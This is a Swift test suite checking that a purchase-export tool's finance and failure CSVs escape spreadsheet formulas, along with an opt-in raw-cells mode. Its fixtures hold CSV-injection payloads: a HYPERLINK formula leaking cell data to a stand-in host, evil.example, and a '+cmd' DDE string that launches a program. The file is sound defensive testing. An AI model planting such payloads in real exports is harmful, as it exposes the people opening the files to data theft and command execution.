import CivilCalendar
import Foundation
import Testing
import TestSupport

/// Contract section 7: no CSV the job writes opens as a live formula in finance's spreadsheet.
@Suite struct FormulaSafeCSVTests {
    static let hostileAccount = #"=HYPERLINK("http://evil.example/?"&A1,"refund")"#

    @Test func theFinanceCSVNeverCarriesAFormulaUnlessAskedForRawCells() async throws {
        try await RunWorld.with("csv-formulas") { world in
            try await world.connection.execute("""
                INSERT INTO iap.transactions (transaction_id, account_id, original_transaction_id, product_id, purchase_date, quantity,
                                              offer_code_ref_name, environment, price_milliunits, currency)
                VALUES ('9001', \(Self.hostileAccount), '9001', '@SUM(1+1)', now() - interval '1 hour', 1, '+cmd|'' /C calc''!A0',
                        'Production', -990, 'EUR')
                """)
            let environment = ["DATABASE_URL": world.database.connectionString]
            let from = Timestamp.day(Date().addingTimeInterval(-86_400)), to = Timestamp.day(Date().addingTimeInterval(86_400))
            let safe = try await CLIProcess.run(["export-finance", "--from", from, "--to", to], environment: environment)
            #expect(safe.status == 0)
            let row = try #require(safe.stdout.components(separatedBy: "\r\n").first { $0.hasPrefix("purchase,") })
            #expect(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#))
            #expect(row.contains(",'@SUM(1+1),"))
            #expect(row.contains(",'+cmd|' /C calc'!A0,"))
            #expect(row.hasSuffix(",Production,-0.99,EUR"))  // a number stays a number
            let raw = try await CLIProcess.run(["export-finance", "--from", from, "--to", to, "--raw-cells"], environment: environment)
            let rawRow = try #require(raw.stdout.components(separatedBy: "\r\n").first { $0.hasPrefix("purchase,") })
            #expect(rawRow.contains(#","=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#))
            #expect(rawRow.contains(",@SUM(1+1),"))
        }
    }

    @Test func theRunsFailureCSVNeverCarriesAFormula() async throws {
        try await RunWorld.with("csv-failures") { world in
            try await world.addReceipt(Self.hostileAccount, "!!! not base64 !!!")
            _ = try await world.run(world.options())
            let failures = try String(contentsOf: try #require(try world.lastReportDirectory()).appending(path: "failures.csv"), encoding: .utf8)
            #expect(failures.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""refund"")""#))
            #expect(!failures.contains("\r\n\"=HYPERLINK") && !failures.contains("\r\n=HYPERLINK"))
        }
    }
}
